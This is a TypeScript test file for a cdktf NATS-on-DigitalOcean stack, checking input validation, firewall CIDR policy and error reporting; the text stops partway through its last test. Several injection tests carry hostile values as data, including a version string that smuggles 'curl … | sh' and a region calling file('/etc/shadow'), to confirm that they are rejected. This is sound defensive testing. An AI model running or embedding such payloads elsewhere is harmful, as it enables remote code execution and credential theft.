import { TerraformStack, TerraformVariable, Testing } from "cdktf";
import { buildStacks, problemReport } from "../constructs/nats-app";
import { NatsAdvertise, NatsInstallMethod } from "../constructs/cloud-init";
import { VolumeFilesystem } from "../constructs/node-settings";
import { ClientAuth } from "../constructs/nats-auth";
import { NatsCluster } from "../constructs/nats-cluster";
import { HealthCheckProtocol, LoadBalancerProtocol, NatsLoadBalancer, NatsLoadBalancerProps } from "../constructs/nats-load-balancer";
import { NatsStack, NatsStackProps } from "../constructs/nats-stack";

/** A NatsStack built from props, as a user's own app would. */
function stackWith(props: NatsStackProps): NatsStack {
  return new NatsStack(Testing.app(), "test", props);
}

/**
 * What main.ts reports for this environment and `nats` context: both stacks built from
 * defaults, context and environment, every problem in one block ("" when there is none).
 */
function mainReport(env: NodeJS.ProcessEnv, context?: unknown, stack = "nats"): string {
  const app = Testing.app({ context: context === undefined ? undefined : { [stack]: context } });
  const problems = buildStacks(app, env);
  return problems.length === 0 ? "" : problemReport(problems);
}

/** A NatsLoadBalancer on its own, for the rules NatsCluster never builds. */
function loadBalancerWith(props: Partial<NatsLoadBalancerProps>): NatsLoadBalancer {
  const stack = new TerraformStack(Testing.app(), "test");
  return new NatsLoadBalancer(stack, "lb", {
    region: "nyc3",
    dropletTag: "nats",
    forwardingRules: [{ entryProtocol: "tcp", entryPort: 4222 }],
    healthCheck: { port: 8222 },
    ...props,
  });
}

type Case = [description: string, build: () => unknown, message: RegExp];

/** Runs the policy on a stack built from props and throws its errors, as one message. */
function policyErrorsOf(props: NatsStackProps): void {
  const errors = stackWith(props).policyErrors();
  if (errors.length > 0) throw new Error(errors.join("\n"));
}

const PROPS: Case[] = [
  ["nodeCount 0", () => stackWith({ nodeCount: 0 }), /nodeCount must be an integer from 1 to 25 .*, got 0/],
  ["nodeCount 26", () => stackWith({ nodeCount: 26 }), /nodeCount must be an integer from 1 to 25 .*, got 26/],
  ["nodeCount 2.5", () => stackWith({ nodeCount: 2.5 }), /nodeCount must be an integer from 1 to 25 .*, got 2\.5/],
  ["region name instead of slug", () => stackWith({ region: "Bangalore" }), /region "Bangalore" is not valid: expected a region slug such as nyc3, fra1 or blr1/],
  ["region without number", () => stackWith({ region: "nyc" }), /region "nyc" is not valid: expected a region slug/],
  ["size with spaces", () => stackWith({ size: "s 1vcpu 1gb" }), /size "s 1vcpu 1gb" is not valid: expected a droplet size slug such as s-1vcpu-1gb/],
  ["size with trailing dash", () => stackWith({ size: "s-1vcpu-" }), /size "s-1vcpu-" is not valid: expected a droplet size slug/],
  ["image display name", () => stackWith({ image: "Ubuntu 24.04 (LTS) x64" }), /image "Ubuntu 24\.04 \(LTS\) x64" is not valid: expected an image slug such as ubuntu-24-04-x64 or a numeric image id/],
  ["image id 0", () => stackWith({ image: "0" }), /image "0" is not valid: expected an image slug/],
  ["clientPort 0", () => stackWith({ clientPort: 0 }), /clientPort must be an integer from 1024 to 65535 .*, got 0/],
  ["monitorPort 70000", () => stackWith({ monitorPort: 70000 }), /monitorPort must be an integer from 1024 to 65535 .*, got 70000/],
  ["clusterPort 4222.5", () => stackWith({ clusterPort: 4222.5 }), /clusterPort must be an integer from 1024 to 65535 .*, got 4222\.5/],
  ["client port equals monitor port", () => stackWith({ clientPort: 8222 }), /monitorPort 8222 collides with clientPort: every port must be different/],
  ["cluster port is ssh's", () => stackWith({ clusterPort: 22 }), /clusterPort must be an integer from 1024 to 65535 \(nats-server runs as an unprivileged user, which cannot bind ports below 1024\), got 22/],
  ["health check interval 2", () => stackWith({ healthCheck: { checkIntervalSeconds: 2 } }), /healthCheck\.checkIntervalSeconds must be an integer from 3 to 300, got 2/],
  ["health check interval 301", () => stackWith({ healthCheck: { checkIntervalSeconds: 301 } }), /healthCheck\.checkIntervalSeconds must be an integer from 3 to 300, got 301/],
  ["health check timeout 2", () => stackWith({ healthCheck: { responseTimeoutSeconds: 2 } }), /healthCheck\.responseTimeoutSeconds must be an integer from 3 to 300, got 2/],
  ["healthy threshold 1", () => stackWith({ healthCheck: { healthyThreshold: 1 } }), /healthCheck\.healthyThreshold must be an integer from 2 to 10, got 1/],
  ["unhealthy threshold 11", () => stackWith({ healthCheck: { unhealthyThreshold: 11 } }), /healthCheck\.unhealthyThreshold must be an integer from 2 to 10, got 11/],
  ["health check port 0", () => stackWith({ healthCheck: { port: 0 } }), /healthCheck\.port must be an integer from 1 to 65535, got 0/],
  ["health check protocol udp", () => stackWith({ healthCheck: { protocol: "udp" as HealthCheckProtocol } }), /healthCheck\.protocol "udp" is not allowed: expected one of http, https, tcp/],
  ["http check with empty path", () => stackWith({ healthCheck: { path: "" } }), /healthCheck\.path is empty: an http health check needs a path such as \/healthz/],
  ["http check path without /", () => stackWith({ healthCheck: { path: "healthz" } }), /healthCheck\.path "healthz" is not valid: expected a path starting with \/ and without spaces/],
  ["tcp check with a path", () => stackWith({ healthCheck: { protocol: "tcp", port: 4222, path: "/healthz" } }), /healthCheck\.path "\/healthz" is not allowed for a tcp health check: remove it or use http/],
  ["tag with spaces", () => stackWith({ tag: "nats cluster" }), /tag "nats cluster" is not valid: expected 1 to 255 letters, digits, colons, dashes or underscores/],
  ["empty tag", () => stackWith({ tag: "" }), /tag "" is not valid: expected 1 to 255 letters/],
  ["namePrefix with capitals", () => stackWith({ namePrefix: "Nats_Node" }), /namePrefix "Nats_Node" is not valid: expected lowercase letters, digits and inner dashes, at most 52 characters/],
  ["clusterName with a space", () => stackWith({ clusterName: "my cluster" }), /clusterName "my cluster" is not valid: expected 1 to 64 letters, digits, dashes or underscores/],
  ["one node with jetstream and the readiness gate", () => stackWith({ nodeCount: 1 }), /cluster: nodeCount 1 with jetstream and the readiness gate never deploys: a lone clustered nats-server elects no jetstream meta leader, so its \/healthz answers 503 and the gate fails; use nodeCount 3 or 5, jetstream: false, or readinessGate: false$/],
  ["publishMonitor without monitoring", () => stackWith({ monitoring: false, publishMonitor: true }), /publishMonitor is true but monitoring is false: enable monitoring or do not publish the monitor port/],
  ["http check without monitoring", () => stackWith({ monitoring: false, healthCheck: { protocol: "http", port: 4222 } }), /healthCheck\.protocol "http" needs the monitor port, but monitoring is false: use a tcp health check/],
  ["admin cidr prefix /33", () => stackWith({ adminCidrs: ["203.0.113.0/33"] }), /adminCidrs\[0\] "203\.0\.113\.0\/33" is not valid: expected an IPv4 or IPv6 address or CIDR block such as 203\.0\.113\.0\/24/],
  ["admin address out of range", () => stackWith({ adminCidrs: ["999.1.1.1/8"] }), /adminCidrs\[0\] "999\.1\.1\.1\/8" is not valid/],
  ["admin ipv6 of colons only", () => stackWith({ adminCidrs: [":::::"] }), /adminCidrs\[0\] ":::::" is not valid/],
  ["admin cidr with host bits set", () => stackWith({ adminCidrs: ["203.0.113.5/24"] }), /adminCidrs\[0\] "203\.0\.113\.5\/24" has host bits set: write the network 203\.0\.113\.0\/24 or the single address 203\.0\.113\.5\/32/],
  ["admin ipv6 cidr with host bits set", () => stackWith({ adminCidrs: ["2001:db8::1/32"] }), /adminCidrs\[0\] "2001:db8::1\/32" has host bits set: write the network 2001:db8::\/32 or the single address 2001:db8::1\/128/],
  ["admin cidr with a zone id", () => stackWith({ adminCidrs: ["fe80::1%eth0/128"] }), /adminCidrs\[0\] "fe80::1%eth0\/128" has a zone id \(%eth0\), which means nothing to a cloud firewall: remove it/],
  ["admin address in short ipv4 form", () => stackWith({ adminCidrs: ["127.1/32"] }), /adminCidrs\[0\] "127\.1\/32" is not valid: expected an IPv4 or IPv6 address or CIDR block/],
  ["admin prefix with a leading zero", () => stackWith({ adminCidrs: ["10.0.0.0/08"] }), /adminCidrs\[0\] "10\.0\.0\.0\/08" is not valid/],
  ["admin address in hex", () => stackWith({ adminCidrs: ["0xcb.0.113.7"] }), /adminCidrs\[0\] "0xcb\.0\.113\.7" is not valid/],
  ["admin cidr listed twice in two spellings", () => stackWith({ adminCidrs: ["2001:db8::/32", "2001:0db8:0::/32"] }), /adminCidrs\[1\] "2001:0db8:0::\/32" repeats adminCidrs\[0\]: list each one once/],
  ["client cidr listed twice", () => stackWith({ clientCidrs: ["10.0.0.0/8", "10.0.0.0/8"] }), /clientCidrs\[1\] "10\.0\.0\.0\/8" repeats clientCidrs\[0\]: list each one once/],
  ["admin cidrs ::0/0 (world-open, policy)", () => policyErrorsOf({ adminCidrs: ["::0/0"] }), /\[NATS-001\] .* lets ::0\/0 \(the whole internet\) reach tcp 8222/],
  ["admin cidrs 0:0::/0 (world-open, policy)", () => policyErrorsOf({ adminCidrs: ["0:0::/0"] }), /\[NATS-001\] .* lets 0:0::\/0 \(the whole internet\) reach tcp 22/],
  ["admin cidrs 1.2.3.0/0 (world-open, policy)", () => policyErrorsOf({ adminCidrs: ["1.2.3.0/0"] }), /has host bits set/],
  ["admin cidrs ::ffff:0:0/96 (all of IPv4, policy)", () => policyErrorsOf({ adminCidrs: ["::ffff:0:0/96"] }), /\[NATS-001\] .* lets ::ffff:0:0\/96 \(the whole internet\) reach tcp 22/],
  ["admin cidrs two halves of IPv4 (policy)", () => policyErrorsOf({ adminCidrs: ["0.0.0.0/1", "128.0.0.0/1"] }), /\[NATS-001\] .* lets 0\.0\.0\.0\/1 and 128\.0\.0\.0\/1 \(the whole internet\) reach tcp 22/],
  ["ssh key that is a name", () => stackWith({ sshKeys: ["my laptop"] }), /sshKeys\[0\] "my laptop" is not valid: expected a numeric key id or an md5 fingerprint/],
  ["ssh key as a SHA256 fingerprint", () => stackWith({ sshKeys: ["SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8"] }), /sshKeys\[0\] "SHA256:nThb.*" is a SHA256 fingerprint, but DigitalOcean wants the MD5 fingerprint or the key id: print it with `ssh-keygen -E md5 -lf key\.pub`/],
  ["ssh key with ssh-keygen's MD5: prefix", () => stackWith({ sshKeys: ["MD5:3b:16:bf:e4:8b:00:8b:b8:59:8c:a9:d3:f0:19:45:fa"] }), /sshKeys\[0\] "MD5:3b:16:.*" starts with MD5: as ssh-keygen prints it: remove the prefix/],
  ["ssh key listed twice", () => stackWith({ sshKeys: ["12345", "67890", "12345"] }), /sshKeys\[2\] "12345" repeats sshKeys\[0\]: list each one once/],
  ["image of an rpm distribution", () => stackWith({ image: "centos-stream-9-x64" }), /image "centos-stream-9-x64" is not an ubuntu or debian image: the install script uses apt and dpkg/],
  ["image of another os", () => stackWith({ image: "freebsd-14-x64-zfs" }), /image "freebsd-14-x64-zfs" is not an ubuntu or debian image/],
  ["region with a token inside (code-made)", () => stackWith({ region: `nyc3 ${new TerraformVariable(new TerraformStack(Testing.app(), "v"), "r", {}).stringValue}` }), /region "nyc3 \$\{TfToken\[TOKEN\.\d+\]\}" is not valid: expected a region slug/],
  ["vpc that is not a uuid", () => stackWith({ vpcUuid: "default" }), /vpcUuid "default" is not valid: expected a VPC uuid/],
  ["load balancer name with spaces", () => stackWith({ loadBalancerName: "bad name!" }), /loadBalancerName "bad name!" is not valid: expected lowercase letters, digits, dots and inner dashes/],
  ["client cidr that is a word", () => stackWith({ clientCidrs: ["10.0.0.0/8", "everyone"] }), /clientCidrs\[1\] "everyone" is not valid: expected an IPv4 or IPv6 address or CIDR block/],
  ["advertise mode", () => stackWith({ advertise: "all" as NatsAdvertise }), /advertise "all" is not allowed: expected one of none, private, public/],
  ["install method", () => stackWith({ installMethod: "snap" as NatsInstallMethod }), /installMethod "snap" is not allowed; only "release" is supported/],
  ["install method apt", () => stackWith({ installMethod: "apt" as NatsInstallMethod }), /installMethod "apt" is not allowed: ubuntu 24\.04's package is nats-server 2\.10\.7, outside the supported 2\.11\.0 up to \(not including\) 3\.0\.0; only "release" is supported/],
  ["client auth mode", () => stackWith({ auth: { client: "password" as ClientAuth } }), /auth\.client "password" is not allowed: expected one of none, token, user-password/],
  ["client user with a space", () => stackWith({ auth: { client: "user-password", clientUser: "nats user" } }), /auth\.clientUser "nats user" is not valid: expected 1 to 64 letters, digits, dashes or underscores/],
  ["nats version with v", () => stackWith({ natsVersion: "v2.11.0" }), /natsVersion "v2\.11\.0" is not valid: expected a nats-server release number X\.Y\.Z from 2\.11\.0 up to \(not including\) 3\.0\.0, one of 2\.11\.17, 2\.12\.15, 2\.14\.5, 2\.15\.0$/],
  ["nats version with a leading zero", () => stackWith({ natsVersion: "2.10.024" }), /natsVersion "2\.10\.024" is not valid: expected a nats-server release number X\.Y\.Z/],
  ["nats version without a patch", () => stackWith({ natsVersion: "2.11" }), /natsVersion "2\.11" is not valid: expected a nats-server release number X\.Y\.Z/],
  ["nats pre-release", () => stackWith({ natsVersion: "2.11.0-rc.1" }), /natsVersion "2\.11\.0-rc\.1" is not valid: expected a nats-server release number X\.Y\.Z/],
  ["nats version 2.10 (end of life)", () => stackWith({ natsVersion: "2.10.24" }), /natsVersion "2\.10\.24" is not supported: expected a nats-server release from 2\.11\.0 up to \(not including\) 3\.0\.0/],
  ["nats version 3", () => stackWith({ natsVersion: "3.0.0" }), /natsVersion "3\.0\.0" is not supported: expected a nats-server release from 2\.11\.0 up to \(not including\) 3\.0\.0/],
  ["load balancer size unit 0", () => stackWith({ loadBalancerSizeUnit: 0 }), /loadBalancerSizeUnit must be an integer from 1 to 100, got 0/],
  ["readiness timeout 5", () => stackWith({ readinessTimeoutSeconds: 5 }), /readinessTimeoutSeconds must be an integer from 10 to 3600, got 5/],
  ["acknowledging an unknown rule", () => stackWith({ acknowledge: { "NATS-100": "typo" } }), /"NATS-100" is not a policy rule: expected one of NATS-001/],
  ["acknowledging without a reason", () => stackWith({ acknowledge: { "NATS-004": "" } }), /NATS-004 has an empty reason: say why the stack breaks the rule/],
  ["volume size 0", () => stackWith({ volumeSizeGib: 0 }), /volumeSizeGib must be an integer from 1 to 16384 \(digitalocean's volume sizes\), got 0/],
  ["volume size above 16384", () => stackWith({ volumeSizeGib: 16385 }), /volumeSizeGib must be an integer from 1 to 16384 .*, got 16385/],
  ["volume size 10.5", () => stackWith({ volumeSizeGib: 10.5 }), /volumeSizeGib must be an integer from 1 to 16384 .*, got 10\.5/],
  ["volume filesystem btrfs", () => stackWith({ volumeFilesystem: "btrfs" as VolumeFilesystem }), /volumeFilesystem "btrfs" is not allowed: expected one of ext4, xfs/],
  ["volume smaller than the file store", () => stackWith({ volumeSizeGib: 10, maxFileStoreGib: 10 }), /volumeSizeGib 10 is smaller than maxFileStoreGib 10 needs: jetstream may fill 80% of the volume.*use volumeSizeGib 13 or more/],
  ["memory store above 75% of the droplet", () => stackWith({ size: "s-1vcpu-1gb", maxMemoryStoreMib: 1024 }), /maxMemoryStoreMib must be an integer from 1 to 768 \(75% of the 1024 MiB of s-1vcpu-1gb\), got 1024/],
  ["droplet size without its memory in the slug", () => stackWith({ size: "c-2" }), /size "c-2" does not name its memory \(like s-1vcpu-1gb does\): set maxMemoryStoreMib/],
  ["volume name from a prefix starting with a digit", () => stackWith({ namePrefix: "1nats" }), /namePrefix "1nats" cannot name volumes: a digitalocean volume name must begin with a letter/],
  ["duplicate forwarding entry ports", () => loadBalancerWith({ forwardingRules: [{ entryProtocol: "tcp", entryPort: 4222 }, { entryProtocol: "http", entryPort: 4222, targetPort: 8222 }] }), /forwardingRules\[1\]\.entryPort 4222 is used by another rule: entry ports must be unique/],
  ["no forwarding rules", () => loadBalancerWith({ forwardingRules: [] }), /forwardingRules must contain at least one rule/],
  ["forwarding protocol ftp", () => loadBalancerWith({ forwardingRules: [{ entryProtocol: "ftp" as LoadBalancerProtocol, entryPort: 21 }] }), /forwardingRules\[0\]\.entryProtocol "ftp" is not allowed: expected one of http, https, http2, http3, tcp, udp/],
  ["forwarding target port 0", () => loadBalancerWith({ forwardingRules: [{ entryProtocol: "tcp", entryPort: 4222, targetPort: 0 }] }), /forwardingRules\[0\]\.targetPort must be an integer from 1 to 65535, got 0/],
  ["tls key algorithm ed25519", () => stackWith({ tls: { keyAlgorithm: "ed25519" as never } }), /tls\.keyAlgorithm "ed25519" is not allowed: expected one of ecdsa-p256, ecdsa-p384, rsa-2048, rsa-3072, rsa-4096/],
  ["tls CA validity 0 days", () => stackWith({ tls: { caValidityDays: 0 } }), /tls\.caValidityDays must be an integer from 1 to 3650 \(1 day to 10 years\), got 0/],
  ["tls certificate validity over 10 years", () => stackWith({ tls: { certificateValidityDays: 3651 } }), /tls\.certificateValidityDays must be an integer from 1 to 3650 \(1 day to 10 years\), got 3651/],
  ["tls empty server name", () => stackWith({ tls: { serverName: "" } }), /tls\.serverName "" is not valid: expected a lowercase DNS name such as nats\.example\.com/],
  ["tls empty domain", () => stackWith({ tls: { domain: "" } }), /tls\.domain "" is not valid: expected a lowercase DNS name such as nats\.example\.com/],
];

/** A value longer than a report shows: it is cut. */
const LONG = `2.10.24${"x".repeat(300)}`;

type ReportCase = [description: string, report: () => string, message: RegExp];

const ENVIRONMENT: ReportCase[] = [
  ["NATS_NODE_COUNT=0", () => mainReport({ NATS_NODE_COUNT: "0" }), /- nats: NATS_NODE_COUNT must be an integer from 1 to 25 .*, got 0/],
  ["NATS_NODE_COUNT=1 with the default jetstream and readiness gate", () => mainReport({ NATS_NODE_COUNT: "1" }), /- nats: NATS_NODE_COUNT 1 with jetstream and the readiness gate never deploys: .*; use NATS_NODE_COUNT 3 or 5, jetstream: false, or readinessGate: false\n/],
  ["NATS_NODE_COUNT=2.5", () => mainReport({ NATS_NODE_COUNT: "2.5" }), /- nats: NATS_NODE_COUNT "2\.5" is not an integer/],
  ["NATS_TUTORIAL_REGION=Bangalore", () => mainReport({ NATS_TUTORIAL_REGION: "Bangalore" }), /- nats-tutorial: NATS_TUTORIAL_REGION "Bangalore" is not valid: expected a region slug such as nyc3, fra1 or blr1/],
  ["NATS_CLIENT_PORT=abc", () => mainReport({ NATS_CLIENT_PORT: "abc" }), /- nats: NATS_CLIENT_PORT "abc" is not an integer/],
  ["NATS_MONITOR_PORT=4222 collides", () => mainReport({ NATS_MONITOR_PORT: "4222" }), /- nats: NATS_MONITOR_PORT 4222 collides with clientPort/],
  ["NATS_CLIENT_PORT=8222 collides", () => mainReport({ NATS_CLIENT_PORT: "8222" }), /- nats: monitorPort 8222 collides with NATS_CLIENT_PORT/],
  ["NATS_SIZE=huge droplet", () => mainReport({ NATS_SIZE: "huge droplet" }), /- nats: NATS_SIZE "huge droplet" is not valid/],
  ["NATS_READINESS_GATE=yes", () => mainReport({ NATS_READINESS_GATE: "yes" }), /- nats: NATS_READINESS_GATE "yes" is not a boolean: expected true or false/],
  ["NATS_ADMIN_CIDRS with a bad entry", () => mainReport({ NATS_ADMIN_CIDRS: "203.0.113.0/24, bogus" }), /- nats: NATS_ADMIN_CIDRS\[1\] "bogus" is not valid: expected an IPv4 or IPv6 address or CIDR block/],
  ["NATS_VERSION=latest", () => mainReport({ NATS_VERSION: "latest" }), /- nats: NATS_VERSION "latest" is not valid: expected a nats-server release number X\.Y\.Z from 2\.11\.0/],
  ["unknown context key", () => mainReport({}, { nodeCout: 3 }), /- nats: context nats\.nodeCout is not a setting: did you mean nodeCount\?/],
  ["context nodeCount as a string", () => mainReport({}, { nodeCount: "3" }), /- nats: context nats\.nodeCount "3" is not a number/],
  ["context readinessGate as a string", () => mainReport({}, { readinessGate: "true" }), /- nats: context nats\.readinessGate "true" is not true or false/],
  ["context sshKeys as a string", () => mainReport({}, { sshKeys: "my-key" }), /- nats: context nats\.sshKeys "my-key" is not a list of strings/],
  ["context region slug invalid", () => mainReport({}, { region: "BLR1" }, "nats-tutorial"), /- nats-tutorial: context nats-tutorial\.region "BLR1" is not valid/],
  // Settings never carry Terraform (issue 9, item 1).
  ["NATS_VERSION with a shell command and a token", () => mainReport({ NATS_VERSION: '2.10.24"; curl -s http://x/y|sh; echo "${TfToken[TOKEN.1]}' }), /- nats: NATS_VERSION "2\.10\.24\\"; curl .*" contains Terraform syntax \(\$\{…\} or %\{…\}\) or a cdktf token: a setting is plain data/],
  ["NATS_TUTORIAL_REGION with a file() call and a token", () => mainReport({ NATS_TUTORIAL_REGION: 'nyc3 ${file("/etc/shadow")}${TfToken[TOKEN.1]}' }), /- nats-tutorial: NATS_TUTORIAL_REGION "nyc3 \$\{file.*" contains Terraform syntax/],
  ["NATS_REGION with a template directive", () => mainReport({ NATS_REGION: "%{if true}nyc3%{endif}" }), /- nats: NATS_REGION "%\{if true\}nyc3%\{endif\}" contains Terraform syntax/],
  ["NATS_SSH_KEYS with a list token", () => mainReport({ NATS_SSH_KEYS: "#{TfToken[TOKEN.9]}" }), /- nats: NATS_SSH_KEYS "#\{TfToken\[TOKEN\.9\]\}" contains Terraform syntax/],
  ["NATS_IMAGE with a newline", () => mainReport({ NATS_IMAGE: "ubuntu-24-04-x64\nruncmd: [reboot]" }), /- nats: NATS_IMAGE "ubuntu-24-04-x64\\nruncmd: \[reboot\]" contains a control or formatting character/],
  ["NATS_TAG with an escape sequence", () => mainReport({ NATS_TAG: "a\u001b[2Jb" }), /- nats: NATS_TAG "a\\u001b\[2Jb" contains a control or formatting character/],
  ["NATS_REGION with a right-to-left override", () => mainReport({ NATS_REGION: "nyc3\u202e1cyn" }), /- nats: NATS_REGION "nyc3\\u\{202e\}1cyn" contains a control or formatting character/],
  ["context key __proto__", () => mainReport({}, JSON.parse('{"__proto__": {"nodeCount": 9}}')), /- nats: context nats\.__proto__ is not a setting/],
  ["context region with a token", () => mainReport({}, { region: "${var.region}" }), /- nats: context nats\.region "\$\{var\.region\}" contains Terraform syntax/],
  ["context nodeCount as a number token", () => mainReport({}, { nodeCount: -1.8881545897087626e289 }), /- nats: context nats\.nodeCount -1\.8881545897087626e\+289 is not an integer/],
  ["NATS_NODE_COUNT of 300 digits", () => mainReport({ NATS_NODE_COUNT: "9".repeat(300) }), /- nats: NATS_NODE_COUNT "9{70,}…" \(300 characters\) is not an integer/],
  // World-open in any spelling (item 2).
  ["NATS_ADMIN_CIDRS=::0/0", () => mainReport({ NATS_ADMIN_CIDRS: "::0/0" }), /- nats: \[NATS-001\] .* lets ::0\/0 \(the whole internet\) reach tcp 22 \(the ssh port\): .*\(NATS_ADMIN_CIDRS: your own addresses\)/],
  ["NATS_ADMIN_CIDRS=1.2.3.4/0", () => mainReport({ NATS_ADMIN_CIDRS: "1.2.3.4/0" }), /- nats: NATS_ADMIN_CIDRS\[0\] "1\.2\.3\.4\/0" has host bits set: write the network 0\.0\.0\.0\/0/],
  ["NATS_ADMIN_CIDRS=0.0.0.0/0 (NATS-001 names the variable)", () => mainReport({ NATS_ADMIN_CIDRS: "0.0.0.0/0" }), /- nats: \[NATS-001\] .* lets 0\.0\.0\.0\/0 \(the whole internet\) reach tcp 8222/],
  ["NATS_ADMIN_CIDRS with a zone id", () => mainReport({ NATS_ADMIN_CIDRS: "fe80::1%eth0" }), /- nats: NATS_ADMIN_CIDRS\[0\] "fe80::1%eth0" has a zone id/],
  // Stacks never share names (item 3).
  ["NATS_TAG=nats, the tutorial's tag", () => mainReport({ NATS_TAG: "nats" }), /- nats: tag "nats" is used by stacks nats and nats-tutorial, which would act on each other's resources in one account: it comes from NATS_TAG: choose another/],
  ["NATS_LOAD_BALANCER_NAME=nats-lb", () => mainReport({ NATS_LOAD_BALANCER_NAME: "nats-lb" }), /- nats: load balancer name "nats-lb" is used by stacks nats and nats-tutorial.*it comes from NATS_LOAD_BALANCER_NAME/],
  ["NATS_TUTORIAL_NAME_PREFIX=nats", () => mainReport({ NATS_TUTORIAL_NAME_PREFIX: "nats" }), /- nats-tutorial: droplet name "nats-1" is used by stacks nats and nats-tutorial.*it comes from NATS_TUTORIAL_NAME_PREFIX/],
  ["NATS_NAME_PREFIX with capitals", () => mainReport({ NATS_NAME_PREFIX: "Edge" }), /- nats: NATS_NAME_PREFIX "Edge" is not valid: expected lowercase letters/],
  ["context tag with a space", () => mainReport({}, { tag: "my nats" }), /- nats: context nats\.tag "my nats" is not valid: expected 1 to 255 letters/],
  // Misspelled settings and context shapes (item 5).
  ["NATS_NODECOUNT", () => mainReport({ NATS_NODECOUNT: "5" }), /- nats: NATS_NODECOUNT is not a setting: did you mean NATS_NODE_COUNT\?/],
  ["NATS_TUTORIAL_REGON", () => mainReport({ NATS_TUTORIAL_REGON: "blr1" }), /- nats-tutorial: NATS_TUTORIAL_REGON is not a setting: did you mean NATS_TUTORIAL_REGION\?/],
  ["a variable name of 300 characters", () => mainReport({ [`NATS_${"X".repeat(295)}`]: "1" }), /- nats: NATS_X{74}… \(300 characters\) is not a setting: expected one of NATS_NODE_COUNT/],
  ["NATS_ADMIN_CIDR (singular)", () => mainReport({ NATS_ADMIN_CIDR: "203.0.113.0/24" }), /- nats: NATS_ADMIN_CIDR is not a setting: did you mean NATS_ADMIN_CIDRS\?/],
  ["context nats: 5", () => mainReport({}, 5), /- nats: context nats 5 is not an object of settings/],
  ["context nats: a list", () => mainReport({}, ["nodeCount"]), /- nats: context nats \["nodeCount"\] is not an object of settings/],
  // Values that cannot boot (item 6).
  ["NATS_IMAGE=centos-stream-9-x64", () => mainReport({ NATS_IMAGE: "centos-stream-9-x64" }), /- nats: NATS_IMAGE "centos-stream-9-x64" is not an ubuntu or debian image/],
  ["NATS_SSH_KEYS with a SHA256 fingerprint", () => mainReport({ NATS_SSH_KEYS: "SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8" }), /- nats: NATS_SSH_KEYS\[0\] "SHA256:.*" is a SHA256 fingerprint.*ssh-keygen -E md5 -lf key\.pub/],
  ["NATS_SSH_KEYS with a duplicate", () => mainReport({ NATS_SSH_KEYS: "12345,12345" }), /- nats: NATS_SSH_KEYS\[1\] "12345" repeats NATS_SSH_KEYS\[0\]: list each one once/],
  ["context adminCidrs with a duplicate", () => mainReport({}, { adminCidrs: ["203.0.113.0/24", "203.0.113.0/24"] }), /- nats: context nats\.adminCidrs\[1\] "203\.0\.113\.0\/24" repeats context nats\.adminCidrs\[0\]/],
  // One report (item 7): values are cut.
  ["a long value is cut to about 80 characters", () => mainReport({ NATS_VERSION: LONG }), /- nats: NATS_VERSION "2\.10\.24x{70,72}…" \(307 characters\) is not valid/],
];

/** Settings at their bounds and in every accepted spelling: main.ts reports nothing. */
const ACCEPTED: [description: string, env: NodeJS.ProcessEnv, context: unknown][] = [
  ["no settings at all", {}, undefined],
  ["node count 1 (without the readiness gate) and 25", { NATS_NODE_COUNT: "1", NATS_READINESS_GATE: "false", NATS_TUTORIAL_NODE_COUNT: "25" }, undefined],
  ["ports 1024 and 65535", { NATS_CLIENT_PORT: "1024", NATS_CLUSTER_PORT: "65535" }, undefined],
  ["admin cidrs: one address, a /0-less v6 block, a /32 and a /128", { NATS_ADMIN_CIDRS: "203.0.113.7, 2001:db8::/32, 198.51.100.1/32, 2001:db8::1/128" }, undefined],
  ["admin cidr of half of IPv4 (not the whole internet)", { NATS_ADMIN_CIDRS: "0.0.0.0/1" }, undefined],
  ["client cidrs 0.0.0.0/0 and ::0/0 (the client port may be public)", { NATS_CLIENT_CIDRS: "0.0.0.0/0, ::0/0" }, undefined],
  ["ssh keys: an id and an md5 fingerprint", { NATS_SSH_KEYS: "12345, 3b:16:bf:e4:8b:00:8b:b8:59:8c:a9:d3:f0:19:45:fa" }, undefined],
  ["images: debian and a numeric snapshot id", { NATS_IMAGE: "debian-12-x64", NATS_TUTORIAL_IMAGE: "123456789" }, undefined],
  ["own names for the default stack", { NATS_NAME_PREFIX: "edge", NATS_TAG: "edge", NATS_LOAD_BALANCER_NAME: "edge-lb" }, undefined],
  ["a tag of 59 characters: its seed load balancer name has 64", { NATS_TAG: "t".repeat(59) }, undefined],
  ["a name prefix of 52 characters and a load balancer name of 64", { NATS_NAME_PREFIX: `n${"-a".repeat(25)}b`, NATS_LOAD_BALANCER_NAME: `l${"b".repeat(62)}c` }, undefined],
  ["context nodeCount 25, the upper bound", {}, { nodeCount: 25 }],
  ["empty and blank variables: not set", { NATS_REGION: "", NATS_NODE_COUNT: "  ", NATS_READINESS_GATE: "", NATS_SSH_KEYS: " , " }, undefined],
  ["client, nats CLI and twin variables", { NATS_URL: "nats://127.0.0.1:4222", NATS_CREDS: "/x.creds", NATS_CONTEXT: "local", NATS_TWIN_SECRET_ROUTE: "x" }, undefined],
  ["an empty context object", {}, {}],
  ["context with spaces around values", {}, { region: " fra1 ", sshKeys: [" 12345 "] }],
];
describe("bad input is rejected with a message naming the value and what is allowed", () => {
  test.each(PROPS)("props: %s", (_description, build, message) => {
    expect(build).toThrow(message);
  });

  test.each(ENVIRONMENT)("environment and context: %s", (_description, report, message) => {
    expect(report()).toMatch(message);
  });

  test.each(ACCEPTED)("accepted: %s", (_description, env, context) => {
    expect(mainReport(env, context)).toBe("");
  });

  test("every problem in one configuration is reported in one error", () => {
    expect(() => stackWith({ nodeCount: 0, region: "Bangalore", clientPort: 70000, healthCheck: { healthyThreshold: 1 } })).toThrow(
      new RegExp(
        [
          "test/cluster: 4 problems:",
          "- nodeCount must be an integer from 1 to 25 .*, got 0",
          '- region "Bangalore" is not valid: .*',
          "- clientPort must be an integer from 1024 to 65535 .*, got 70000",
          "- healthCheck\\.healthyThreshold must be an integer from 2 to 10, got 1",
        ].join("\n"),
      ),
    );
  });

  test("every problem in the environment, context, props and policy of every stack is reported in one block", () => {
    const env = {
      NATS_READINESS_GATE: "maybe",
      NATS_ADMIN_CIDRS: "::0/0",
      NATS_TUTORIAL_CLIENT_PORT: "abc",
      NATS_TUTORIAL_NODE_COUNT: "0",
      NATS_TUTORIAL_REGION: "Bangalore",
    };
    expect(mainReport(env, { colour: "blue" }).split("\n")).toEqual([
      "configuration has 7 problems; nothing was synthesized:",
      expect.stringMatching(/^- nats: context nats\.colour is not a setting: expected one of nodeCount, /),
      '- nats: NATS_READINESS_GATE "maybe" is not a boolean: expected true or false',
